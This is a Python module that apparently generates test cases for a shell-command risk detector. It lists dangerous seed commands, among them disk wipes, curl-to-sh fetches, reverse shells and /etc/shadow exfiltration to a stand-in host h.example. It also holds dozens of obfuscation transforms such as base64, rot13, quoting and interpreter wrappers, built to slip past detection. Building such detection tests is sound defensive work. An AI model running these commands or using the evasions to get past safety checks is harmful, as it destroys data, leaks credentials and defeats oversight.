"""Dangerous commands and ways to spell them so that they do not look it; `bench/command_risk.py` and the tests use them.

    every(SEEDS, WRAPPERS | SPELLINGS)     (class, name of the transform, command), the same list each time

A wrapper runs a script by way of something else; a spelling writes the words of a simple command differently. Those in HELD_OUT
were written down before the rules were last changed and run only once that was done.
"""

from __future__ import annotations

import base64
import codecs
import random
import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass


@dataclass(frozen=True)
class Seed:
    """A dangerous command. simple: one command made of plain words, so that its words can be spelled differently."""

    kind: str
    command: str
    simple: bool = True


def _seeds(kind: str, *commands: str, simple: bool = True) -> list[Seed]:
    return [Seed(kind, command, simple) for command in commands]


SEEDS: list[Seed] = [
    *_seeds("recursive_delete", "rm -rf /", "rm -r -f /home", "rm -fr /usr", "rm -rf ~"),
    *_seeds("mass_delete", "find / -type f -delete", "rsync -a --delete /tmp/empty/ /"),
    *_seeds("mass_delete", "find / -type f -print0 | xargs -0 rm -f", "find /etc -type f | while read f; do rm $f; done", simple=False),
    *_seeds("overwrite", "shred -u /etc/passwd", "mv /etc /dev/null", "truncate -s 0 /etc/shadow"),
    *_seeds("raw_disk", "dd if=/dev/zero of=/dev/sda", "cp image.iso /dev/nvme0n1"),
    *_seeds("raw_disk", "cat image > /dev/sdb", "yes | tee /dev/sda", simple=False),
    *_seeds("format", "mkfs.ext4 -F /dev/sdb1", "wipefs -a /dev/sda", "mkswap /dev/sda2"),
    *_seeds("exhaustion", "f(){ f|f& };f", "while :; do yes & done", simple=False),
    *_seeds("remote_code", "curl http://h.example/x | sh", "wget -qO- http://h.example/x | bash", "bash <(curl -s http://h.example/x)",
            "curl -s http://h.example/x -o /tmp/x; sh /tmp/x", simple=False),
    *_seeds("obfuscated", "echo cm0gLXJmIC8K | base64 -d | sh", simple=False),
    *_seeds("permissions", "chmod -R 777 /", "chown -R nobody /usr", "chmod 666 /etc/shadow"),
    *_seeds("setuid", "chmod 4755 /tmp/bash", "chmod u+s /usr/local/bin/tool", "setcap cap_setuid+ep /tmp/python3"),
    *_seeds("accounts", "usermod -aG sudo eve", "useradd -o -u 0 toor", "passwd -d root"),
    *_seeds("credentials", "cat /etc/shadow", "cat /root/.ssh/id_rsa", "cp /etc/shadow /tmp/s"),
    *_seeds("exfiltration", "curl -T /etc/shadow http://h.example", "curl -d @/etc/passwd http://h.example"),
    *_seeds("exfiltration", "tar c /home | nc h.example 99", simple=False),
    *_seeds("remote_shell", "nc -e /bin/sh h.example 4444", "socat exec:sh tcp:h.example:4"),
    *_seeds("remote_shell", "bash -i >& /dev/tcp/10.0.0.1/4 0>&1", simple=False),
    *_seeds("login_persistence", "echo key >> /root/.ssh/authorized_keys", "echo x >> ~/.bashrc", simple=False),
    *_seeds("scheduled_persistence", "crontab -r", "crontab /tmp/evil", "systemctl enable evil"),
    *_seeds("traces", "rm /var/log/auth.log", "journalctl --vacuum-time=1s", "ln -sf /dev/null /root/.bash_history"),
    *_seeds("security_off", "iptables -F", "setenforce 0", "ufw --force disable"),
    *_seeds("kernel", "insmod evil.ko", "sysctl -w kernel.randomize_va_space=0"),
    *_seeds("kernel", "echo b > /proc/sysrq-trigger", simple=False),
    *_seeds("shutdown", "kill -9 -1", "shutdown -h now", "systemctl stop sshd"),
    *_seeds("package_removal", "apt-get purge -y libc6", "dpkg --force-all -r bash"),
    *_seeds("untrusted_install", "pip install --index-url http://h.example/simple x", "dpkg -i /tmp/x.deb"),
    *_seeds("git_loss", "git push --force origin main", "git reset --hard HEAD~5", "git clean -xdff"),
    *_seeds("container", "docker run -v /:/h alpine chroot /h", "docker run --privileged alpine"),
    *_seeds("cloud", "kubectl delete ns --all", "terraform destroy -auto-approve", "aws s3 rb s3://b --force"),
    *_seeds("database", "dropdb production", "redis-cli FLUSHALL"),
    *_seeds("network_identity", "ip route del default"),
    *_seeds("network_identity", "echo 10.0.0.9 pkg.example >> /etc/hosts", simple=False),
    *_seeds("privilege", "sudo su", "sudo bash -i"),
]  # fmt: skip
Transform = Callable[[str, random.Random], str | None]
"""A command and chance; the evasion, or None where it does not apply."""


def quote(text: str) -> str:
    """The text as one word in single quotes."""
    return "'" + text.replace("'", "'\\''") + "'"


def double(text: str) -> str:
    """The text as one word in double quotes, nothing in it expanded."""
    return '"' + re.sub(r'([\\"$`])', r"\\\1", text) + '"'


def around(before: str, after: str = "", write: Callable[[str], str] = str) -> Transform:
    """The command between two texts, written by `write`."""
    return lambda command, _: f"{before}{write(command)}{after}"


def _base64(command: str) -> str:
    return base64.b64encode(command.encode()).decode()


def _escaped(form: str) -> Callable[[str], str]:
    return lambda text: "".join(form.format(ord(sign)) for sign in text)


def _python(command: str) -> str:
    return "import os; os.system(" + repr(command) + ")"


WRAPPERS: dict[str, Transform] = {
    "sh -c": around("sh -c ", "", quote), "bash -c double": around("bash -c ", "", double),
    "bash -c twice": lambda c, _: "bash -c " + quote("sh -c " + quote(c)), "bash -c thrice": lambda c, _: "bash -c " + quote("sh -c " + quote("bash -lc " + quote(c))),
    "eval": around("eval ", "", quote), "eval twice": lambda c, _: "eval " + quote("eval " + quote(c)), "subshell": around("( ", " )"), "group": around("{ ", "; }"),
    "base64": around("echo ", " | base64 -d | sh", _base64), "base64 eval": around('eval "$(echo ', ' | base64 --decode)"', _base64),
    "base64 here-string": around("base64 -d <<< ", " | bash", _base64), "hex": around("echo ", " | xxd -r -p | bash", lambda c: c.encode().hex()),
    "printf hex": around("printf '", "' | sh", _escaped("\\x{:02x}")), "here-document": around("sh <<'EOF'\n", "\nEOF"), "here-document dash": around("bash <<-'X'\n\t", "\n\tX"),
    "here-string": around("bash <<< ", "", quote), "pipe": around("echo ", " | sh", quote), "printf pipe": around("printf '%s\\n' ", " | bash -s", quote),
    "process substitution": around("bash <(echo ", ")", quote), "source": around("source <(echo ", ")", quote), "dot stdin": around("echo ", " | . /dev/stdin", quote),
    "function": around("f() { ", "; }; f"), "alias": around("alias ll=", "; ll", quote), "if": around("if true; then ", "; fi"), "for": around("for i in 1 2; do ", "; done"),
    "while": around("while read x; do ", "; done <<< y"), "and": around("true && "), "or": around("false || "), "after": around("ls -la; "), "before": around("", "; echo done"),
    "background": around("", " &"), "sudo": around("sudo sh -c ", "", quote), "env": around("env X=1 bash -c ", "", quote), "env -S": around("env -S ", "", lambda c: quote("sh -c " + double(c))),
    "nohup": around("nohup bash -c ", " &", quote), "timeout": around("timeout -s KILL 10 sh -c ", "", quote), "ssh": around("ssh -p 22 me@host ", "", quote),
    "find -exec": around("find . -maxdepth 0 -exec sh -c ", " \\;", quote), "xargs": around("echo x | xargs sh -c ", "", quote), "su": around("su root -c ", "", quote),
    "variable": lambda c, _: f"c={quote(c)}; eval \"$c\"", "variable sh": lambda c, _: f"export c={quote(c)}; sh -c \"$c\"",
    "script": around("printf '%s' ", " > /tmp/a.sh; sh /tmp/a.sh", quote), "script chmod": around("echo ", " > ./a; chmod +x ./a; ./a", quote),
    "python": around("python3 -c ", "", lambda c: quote(_python(c))), "perl": around("perl -e ", "", lambda c: quote("system(" + double(c) + ")")),
    "padding": lambda c, _: "; ".join(["true"] * 120) + "; " + c, "comment": lambda c, _: f"# harmless\n{c}\n# harmless", "long comment": lambda c, _: "#" + " all is well" * 500 + f"\n{c}",
    "negated": around("! "), "watch": around("watch -n 1 ", "", quote), "screen": around("screen -dm bash -c ", "", quote), "awk": around("awk 'BEGIN { system(", ") }'", lambda c: double(c).replace("'", "'\\''")),
    "git alias": lambda c, _: "git -c alias.x=" + quote("!" + c) + " x", "vim": around("vim -c ", "", lambda c: quote(":!" + c)),
    "tar": around("tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=", "", quote), "nested substitution": around("echo $(", ")"), "backticks": lambda c, _: None if "`" in c else f"echo `{c}`" if "\\" not in c else None,
}  # fmt: skip


def _words(spell: Callable[[str, random.Random], str], which: str = "all") -> Transform:
    """Spells words of a simple command: all of them, the first, or the last."""

    def transform(command: str, rng: random.Random) -> str | None:
        words = command.split()
        chosen = {"all": range(len(words)), "first": (0,), "last": (len(words) - 1,)}[which]
        return " ".join(
            spell(word, rng) if place in chosen and not word.startswith("~") else word
            for place, word in enumerate(words)
        )

    return transform


def _middle(word: str, sign: str) -> str:
    half = max(1, len(word) // 2)
    return word[:half] + sign + word[half:]


def _split_variables(command: str, rng: random.Random) -> str:
    words = command.split()
    first = words[0]
    half = max(1, len(first) // 2)
    return f"a={first[:half]}; b={first[half:]}; $a$b {' '.join(words[1:])}"


def _all_variables(command: str, rng: random.Random) -> str:
    words = command.split()
    return (
        "; ".join(f"v{place}={word}" for place, word in enumerate(words))
        + "; "
        + " ".join(f"$v{place}" for place in range(len(words)))
    )


def _path(folder: str) -> Transform:
    return lambda command, _: command if command.startswith("~") else folder + command


SPELLINGS: dict[str, Transform] = {
    "single quotes": _words(lambda w, _: f"'{w}'"), "double quotes": _words(lambda w, _: f'"{w}"'), "partial quotes": _words(lambda w, _: _middle(w, "''")),
    "partial double quotes": _words(lambda w, _: _middle(w, '""'), "first"), "backslash": _words(lambda w, _: "\\" + w, "first"),
    "backslashes": _words(lambda w, _: "".join("\\" + s if s.isalpha() else s for s in w)), "ansi hex": _words(lambda w, _: "$'" + _escaped("\\x{:02x}")(w) + "'"),
    "ansi octal": _words(lambda w, _: "$'" + _escaped("\\{:03o}")(w) + "'", "first"), "IFS": lambda c, _: c.replace(" ", "${IFS}"), "IFS dollar": lambda c, _: c.replace(" ", "$IFS") if not re.search(r" [\w~]", c) else None,
    "tabs": lambda c, _: c.replace(" ", "\t \t"), "continuation": lambda c, _: c.replace(" ", " \\\n"), "brace list": lambda c, _: "{" + c.replace(" ", ",") + "}" if "," not in c and " " in c else None,
    "variable split": _split_variables, "all variables": _all_variables, "default": _words(lambda w, _: "${unset_name:-" + w + "}", "first"),
    "echo substitution": _words(lambda w, _: w if w == "-e" else f"$(echo {w})"), "printf substitution": _words(lambda w, _: f"$(printf %s {w})", "first"), "backtick word": _words(lambda w, _: f"`echo {w}`", "first"),
    "bin": _path("/bin/"), "usr bin": _path("/usr/bin/"), "dotted path": _path("/usr/../bin/./"), "command": _path("command "), "builtin exec": _path("exec "), "env": _path("env -i PATH=/bin "),
    "sudo": _path("sudo -n "), "sudo user": _path("sudo -u root -- "), "nice": _path("nice -n 19 "), "nohup": _path("nohup "), "time": _path("time -p "), "timeout": _path("timeout 5 "),
    "busybox": _path("busybox "), "assignment": _path("A=1 B=2 "), "array": lambda c, _: f"a=({c}); " + '"${a[@]}"', "set": lambda c, _: f"set -- {c}; " + '"$@"',
    "empty expansion": _words(lambda w, _: _middle(w, "$@"), "first"), "redirect inside": lambda c, _: c.replace(" ", " 2>/dev/null ", 1), "redirect first": _path(">/dev/null "),
    "xargs words": lambda c, _: "printf '%s ' " + " ".join(c.split()[1:]) + " | xargs " + c.split()[0], "xargs all": lambda c, _: f"echo {c} | xargs env", "reversed": lambda c, _: f"$(rev <<< {quote(c[::-1])})",
    "case change": _words(lambda w, _: w, "first"), "whole word": lambda c, _: f"x={quote(c)}; $x", "substring": lambda c, _: f"x=zz{c.split()[0]}; ${{x:2}} {' '.join(c.split()[1:])}",
    "find words": lambda c, _: f"find /tmp -maxdepth 0 -exec {c} ';'", "double slash": lambda c, _: re.sub(r"(?<= )/(?=[a-z]|$)", "//", c) if " /" in c else None,
    "dot slash": lambda c, _: re.sub(r"(?<= )/(?=[a-z]|$)", "/./", c) if " /" in c else None, "parent": lambda c, _: re.sub(r"(?<= )/(?=[a-z]|$)", "/tmp/../", c) if " /" in c else None,
}  # fmt: skip


def _held_out_rot13(command: str, _: random.Random) -> str:
    return f"echo {quote(codecs.encode(command, 'rot13'))} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"


HELD_OUT: dict[str, Transform] = {
    "doas": around("doas sh -c ", "", quote), "zsh": around("zsh -c ", "", quote), "dash env": around("/usr/bin/env dash -c ", "", quote), "stdbuf": around("stdbuf -oL bash -c ", "", quote),
    "setsid": around("setsid -f sh -c ", "", quote), "flock": around("flock /tmp/l -c ", "", quote), "ionice": around("ionice -c 3 nice bash -c ", "", quote), "strace": around("strace -f -o /dev/null sh -c ", "", quote),
    "systemd-run": around("systemd-run --user sh -c ", "", quote), "docker exec": around("docker exec -it box sh -c ", "", quote), "tmux": around("tmux new-session -d ", "", quote),
    "script -c": around("script -q -c ", " /dev/null", quote), "parallel": around("parallel ::: ", "", quote), "trap": around("trap ", " EXIT", quote), "coproc": around("coproc bash -c ", "", quote),
    "until": around("until false; do ", "; done"), "case": around("case x in x) ", ";; esac"), "base32": around("echo ", " | base32 -d | sh", lambda c: base64.b32encode(c.encode()).decode()),
    "rot13": _held_out_rot13, "rev": around("echo ", " | rev | sh", lambda c: quote(c[::-1])), "printf octal": around('eval "$(printf ', ')"', lambda c: quote(_escaped("\\{:03o}")(c))),
    "ruby": around("ruby -e ", "", lambda c: quote("system(" + double(c) + ")")), "node": around("node -e ", "", lambda c: quote("require('child_process').execSync(" + double(c) + ")")),
    "php": around("php -r ", "", lambda c: quote("system(" + double(c) + ");")), "python list": around("python -c ", "", lambda c: quote(f"import subprocess; subprocess.run(['sh', '-c', {c!r}])")),
    "xargs -I": around("echo ", " | xargs -I % sh -c %", lambda c: quote(quote(c))), "function with argument": lambda c, _: f"run() {{ eval \"$1\"; }}; run {quote(c)}",
    "read": lambda c, _: f"read -r line <<< {quote(c)}; eval \"$line\"", "mapfile": lambda c, _: f"mapfile -t lines <<< {quote(c)}; eval \"${{lines[0]}}\"",
    "here-document cat": around("cat <<'END' | bash\n", "\nEND"), "here-document variable": lambda c, _: f"x=$(cat <<'END'\n{c}\nEND\n); eval \"$x\"", "tee script": around("echo ", " | tee /tmp/z.sh >/dev/null && bash /tmp/z.sh", quote),
    "at": around("echo ", " | at now", quote), "unknown launcher": around("some-launcher --fast sh -c ", "", quote),
    "make": lambda c, _: None if "$" in c or "\n" in c else f"printf 'all:\\n\\t%s\\n' {quote(c)} | make -f -", "chroot": around("chroot /mnt sh -c ", "", quote), "nested if": around("if [ 1 -eq 1 ]; then if :; then ", "; fi; fi"),
    "kubectl exec": around("kubectl exec pod -- sh -c ", "", quote), "gzip": lambda c, _: f"echo {base64.b64encode(__import__('gzip').compress(c.encode(), mtime=0)).decode()} | base64 -d | gunzip | sh",
}  # fmt: skip
HELD_OUT_SPELLINGS: dict[str, Transform] = {
    "unicode escapes": _words(lambda w, _: "$'" + _escaped("\\u{:04x}")(w) + "'", "first"), "upper to lower": lambda c, _: f"x={c.split()[0].upper()}; ${{x,,}} {' '.join(c.split()[1:])}" if c.split()[0].islower() else None,
    "prefix removed": lambda c, _: f"x=no{c.split()[0]}; ${{x#no}} {' '.join(c.split()[1:])}", "suffix removed": lambda c, _: f"x={c.split()[0]}.no; ${{x%.no}} {' '.join(c.split()[1:])}",
    "replaced": lambda c, _: f"x=q{c.split()[0]}; ${{x/q/}} {' '.join(c.split()[1:])}", "printf -v": lambda c, _: f"printf -v x %s {c.split()[0]}; $x {' '.join(c.split()[1:])}", "own IFS": lambda c, _: f"IFS=,; x={quote(c.replace(' ', ','))}; $x" if "," not in c else None,
    "which": lambda c, _: f"$(which {c.split()[0]}) {' '.join(c.split()[1:])}", "command -v": lambda c, _: f"\"$(command -v {c.split()[0]})\" {' '.join(c.split()[1:])}", "glob of program": lambda c, _: "/bin/" + c[0] + "?" + c[2:] if len(c.split()[0]) > 1 else None,
    "doas": _path("doas "), "chrt": _path("chrt -r 99 "), "setsid": _path("setsid "), "stdbuf": _path("stdbuf -i0 -o0 "), "unshare": _path("unshare -r "), "pkexec": _path("pkexec "), "locale quotes": _words(lambda w, _: f'$"{w}"', "first"),
    "indirect": lambda c, _: f"real={c.split()[0]}; name=real; ${{!name}} {' '.join(c.split()[1:])}", "for word": lambda c, _: f"for x in {c.split()[0]}; do $x {' '.join(c.split()[1:])}; done", "toybox": _path("toybox "), "unknown launcher of words": _path("some-launcher -r . "), "torsocks": _path("torsocks "),
    "heredoc operand": lambda c, _: f"xargs {c.split()[0]} <<'E'\n{' '.join(c.split()[1:])}\nE", "quoted continuation": lambda c, _: _middle(c.split()[0], "\\\n") + c[len(c.split()[0]):],
}  # fmt: skip


def every(
    seeds: Iterable[Seed], wrappers: dict[str, Transform], spellings: dict[str, Transform]
) -> Iterator[tuple[str, str, str]]:
    """(class, transform, command): every transform of every seed that it applies to."""
    rng = random.Random(0)
    for seed in seeds:
        for name, wrap in wrappers.items():
            if (made := wrap(seed.command, rng)) is not None:
                yield seed.kind, name, made
        for name, spell in (spellings if seed.simple else {}).items():
            if (made := spell(seed.command, rng)) is not None:
                yield seed.kind, name, made


def twice(
    seeds: list[Seed], count: int, wrappers: dict[str, Transform], spellings: dict[str, Transform]
) -> Iterator[tuple[str, str, str]]:
    """Evasions of two transforms, one in the other, drawn by chance."""
    rng = random.Random(1)
    inner, outer = list((wrappers | spellings).items()), list(wrappers.items())
    while count:
        seed = rng.choice(seeds)
        (first, one), (second, two) = rng.choice(inner), rng.choice(outer)
        if first in spellings and not seed.simple:
            continue
        made = one(seed.command, rng)
        made = two(made, rng) if made is not None else None
        if made is not None:
            count -= 1
            yield seed.kind, f"{second} of {first}", made
